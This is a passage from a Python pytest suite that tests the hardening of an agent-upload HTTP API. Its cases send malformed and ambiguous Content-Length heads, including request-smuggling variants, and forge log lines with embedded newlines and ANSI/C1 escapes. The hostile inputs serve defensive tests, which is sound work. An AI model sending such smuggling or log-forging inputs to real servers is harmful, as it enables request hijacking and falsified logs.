        with open(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600), "w") as f:
            f.write(original)
    assert run.returncode == F.RETCODES["task_failed"], run.stderr[-3000:]
    assert message in run.stdout + run.stderr
    assert "testing-secret" not in run.stdout + run.stderr
    assert F.bucket_objects(h.env, hour) == {}
    assert os.path.exists(h.root.upload(hour, agent.id, tx)) and not os.path.exists(h.root.hour_marker(hour, "backup"))
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert_no_traceback(h)


# --- 6. request heads: lengths and framing (smuggling) -------------------------------------------------

def _head(h, method, path, *lines, body=b"{}"):
    """A raw request by a fresh agent with these extra head lines."""
    agent = new_agent(h)
    head = [f"{method} {path} HTTP/1.1", "Host: x", f"Authorization: Bearer {agent.token}", f"X-Agent-Id: {agent.id}",
            *lines]
    return ("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + body


HEAD_CASES = {
    # id: (extra head lines, path), all answered 400 before any body is read
    "length-unicode-digit": (["Content-Length: \u00b2"], "/v1/transactions"),
    "length-plus-sign": (["Content-Length: +2"], "/v1/transactions"),
    "length-minus-sign": (["Content-Length: -2"], "/v1/transactions"),
    "length-inner-space": (["Content-Length: 1 2"], "/v1/transactions"),
    "length-hex": (["Content-Length: 0x2"], "/v1/transactions"),
    "length-unauthenticated": (["Content-Length: \u00b2"], "/nowhere"),
    "smuggling-duplicate-length": (["Content-Length: 2", "Content-Length: 40"], "/v1/transactions"),
    "smuggling-length-and-chunked": (["Content-Length: 2", "Transfer-Encoding: chunked"], "/v1/transactions"),
    "smuggling-length-and-chunked-upload": (["Content-Length: 2", "Transfer-Encoding: chunked",
                                             f"X-Archive-SHA256: {'0' * 64}"],
                                            "PUT /v1/transactions/4f1c2d6e-0000-4000-8000-000000000000/archive"),
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("case", sorted(HEAD_CASES))
def test_malformed_or_ambiguous_length_is_400(h, case):
    lines, path = HEAD_CASES[case]
    method, _, path = path.rpartition(" ")
    raw = _head(h, method or "POST", path, *lines)
    before = snapshot(h)
    exchange = F.RawExchange(h.port)
    exchange.send(raw)
    status, body = exchange.reply(timeout=10)
    exchange.close()
    assert status == 400 and body["status"] == 400 and "Content-Length" in body["error"], (status, body)
    assert snapshot(h) == before
    assert_no_traceback(h)


# --- 7. token guessing, log forging, fairness, disk quota ------------------------------------------------

def call_from(address, port, method, path, body=None, headers=None):
    """F.call from another loopback source address (the throttle counts per client address)."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30, source_address=(address, 0))
    try:
        conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        return F.Reply(resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read())
    finally:
        conn.close()


@pytest.mark.timeout(60)
def test_token_guessing_is_throttled_per_address(h):
    """token-guessing: past [api] auth_failures_per_minute wrong tokens, the address gets 429 for every
    request, the right token included; other addresses are served."""
    agent = new_agent(h)
    body = json.dumps({"agent_id": agent.id, "hour": hour_text(h)})
    before = snapshot(h)
    for _ in range(DEFAULTS.auth_failures_per_minute):
        guess = F.agent_headers(agent.id, uuid.uuid4().hex)
        assert call_from("127.0.0.3", h.port, "POST", "/v1/transactions", body, guess).status == 401
    for headers in (F.agent_headers(agent.id, "one-more-guess"), agent.headers):
        reply = call_from("127.0.0.3", h.port, "POST", "/v1/transactions", body, headers)
        assert_refused(h, reply, 429, "too many failed authentications")
        assert 0 < int(reply.headers["retry-after"]) <= 60
    assert snapshot(h) == before
    assert F.call(h.port, "POST", "/v1/transactions", body, agent.headers).status == 201


FORGED = "2026-12-04 09:00:00,000 ERROR ganymede.api: FORGED"


@pytest.mark.timeout(60)
def test_agent_strings_reach_the_log_escaped(h):
    """log-forging-member-name, log-forging-header: a newline and ANSI escapes in a tar member name and
    a C1 control in a header are logged escaped (\\n, \\xNN), never as a line of their own or a command."""
    agent = new_agent(h)
    tx = create(h, agent)
    data = _extra(f"x\n{FORGED}\x1b[2J\x1b[31m.csv", data=b"x")(h, agent.id)
    assert F.upload(h.port, agent.id, agent.token, tx, data).status == 200
    assert F.complete(h.port, agent.id, agent.token, tx).status == 422
    exchange = F.RawExchange(h.port)
    # Tornado refuses C0 controls in headers itself, but not C1 ones such as \x9b (CSI, the 8-bit ESC [).
    exchange.send(b"POST /v1/transactions HTTP/1.1\r\nHost: x\r\nContent-Length: 2\x9b2J-FORGED\r\n\r\n{}")
    assert exchange.reply(timeout=10)[0] == 400
    exchange.close()
    logged = F.wait_for(lambda: (lambda text: "\\x9b2J-FORGED" in text and text)(h.api.log()[h.log_mark:]),
                        timeout=10, what="the header value in the API's log (Tornado logs it)")
    assert tx in logged and "x\\n2026-12-04" in logged
    assert not set(logged) & {chr(c) for c in [*range(0x20), *range(0x7f, 0xa0)]} - {"\n"}
    assert not any(line.startswith(FORGED) for line in logged.splitlines()), logged[-2000:]


def _held_lock(conn, transaction_id):
    with conn.cursor() as cur:
        cur.execute("SELECT GET_LOCK(%s, 0)", (f"ganymede-tx-{transaction_id}",))
        assert cur.fetchone()[0] == 1


def _waiting_for_locks(h):
    with F.sql(h.env) as conn, conn.cursor() as cur:
        cur.execute("SELECT COUNT(*) FROM information_schema.processlist WHERE db = %s "
                    "AND info LIKE 'SELECT GET_LOCK(%%ganymede-tx-%%'", (h.env.mysql_database,))
        return cur.fetchone()[0]


@pytest.mark.timeout(120)
def test_one_agents_completes_beyond_its_limit_get_429_and_others_are_served(h):
    """fairness-completes: while [api] completes_per_agent completes of one agent are in flight (held
    here on their transactions' locks), its next gets 429 + Retry-After, and another agent's whole
    exchange and /healthz are answered."""
    flooder, other = new_agent(h), new_agent(h)
    limit = DEFAULTS.completes_per_agent
    txs = []
    for back in range(limit + 1):
        hour = h.hour - timedelta(hours=back + 1)
        tx = F.create_transaction(h.port, flooder.id, flooder.token, hours.format_hour(hour)).json["transaction_id"]
        data = build_archive(h, flooder.id, dataset_files(hour), hour=hour)
        assert F.upload(h.port, flooder.id, flooder.token, tx, data).status == 200
        txs.append(tx)
    with F.sql(h.env) as holder, ThreadPoolExecutor(limit) as pool:
        for tx in txs[:limit]:
            _held_lock(holder, tx)
        held = [pool.submit(F.complete, h.port, flooder.id, flooder.token, tx) for tx in txs[:limit]]
        F.wait_for(lambda: _waiting_for_locks(h) >= limit, what="the flooder's completes in flight")
        refused = F.complete(h.port, flooder.id, flooder.token, txs[limit])
        assert_refused(h, refused, 429, "completes being validated")
        assert refused.headers["retry-after"] == str(DEFAULTS.retry_after)
        tx = create(h, other)
        assert F.upload(h.port, other.id, other.token, tx, build_archive(h, other.id, dataset_files(h.hour))).status == 200
        assert F.complete(h.port, other.id, other.token, tx).status == 200
        assert F.healthz(h.port).status == 200
        assert not any(f.done() for f in held)
        with holder.cursor() as cur:
            cur.execute("SELECT RELEASE_ALL_LOCKS()")
        assert [f.result().status for f in held] == [200] * limit
    assert F.complete(h.port, flooder.id, flooder.token, txs[limit]).status == 200


@pytest.mark.timeout(60)
def test_upload_over_the_agents_disk_quota_is_507(h):
    """quota-agent-disk: an agent holding [api] agent_quota_mb in quarantine/ (a sparse file here) gets
    507 with the reason for its next upload; nothing is stored and other agents upload as before."""
    agent, other = new_agent(h), new_agent(h)
    tx = create(h, agent)
    planted = h.root.quarantine(h.hour - timedelta(hours=3), agent.id, str(uuid.uuid4()))
    os.makedirs(os.path.dirname(planted))
    with open(planted, "wb") as f:
        f.truncate(DEFAULTS.agent_quota_mb << 20)
    try:
        data = build_archive(h, agent.id, dataset_files(h.hour))
        before = snapshot(h)
        reply = F.upload(h.port, agent.id, agent.token, tx, data)
        assert_refused(h, reply, 507, f"over its quota of {DEFAULTS.agent_quota_mb} MB")
        assert snapshot(h) == before and tx_state(h, tx) == "created"
        other_tx = create(h, other)
        assert F.upload(h.port, other.id, other.token, other_tx,
                        build_archive(h, other.id, dataset_files(h.hour))).status == 200
    finally:
        os.remove(planted)


# --- the table in docs/security.md -------------------------------------------------------------------

def all_case_ids():
    docstring_ids = ["auth-revoked-token", "sql-json-extra-field", "upload-sha256-mismatch", "upload-chunked-no-length",
                     "upload-over-limit", "huge-header", "slow-headers", "slow-idle-keepalive", "slow-body",
                     "crlf-line-endings", "token-guessing", "log-forging-member-name", "log-forging-header",
                     "fairness-completes", "quota-agent-disk"]
    return sorted(set(REQUEST_CASES) | set(REPLAY_CASES) | set(ARCHIVE_CASES) | set(GEO_CASES) | set(BOMBS)
                  | set(GZIP_CASES)
                  | set(S3CURL_CASES) | set(HEAD_CASES) | set(docstring_ids))


@pytest.mark.timeout(10)
def test_every_case_is_in_the_security_table():
    doc = open(os.path.join(os.path.dirname(F.HERE), "docs", "security.md")).read()
    rows = set(re.findall(r"^\| `([a-z0-9-]+)` \|", doc, re.M))
    assert len(all_case_ids()) >= 40
    assert set(all_case_ids()) - rows == set(), "cases missing from docs/security.md"
    assert rows - set(all_case_ids()) == set(), "rows in docs/security.md that no test checks"
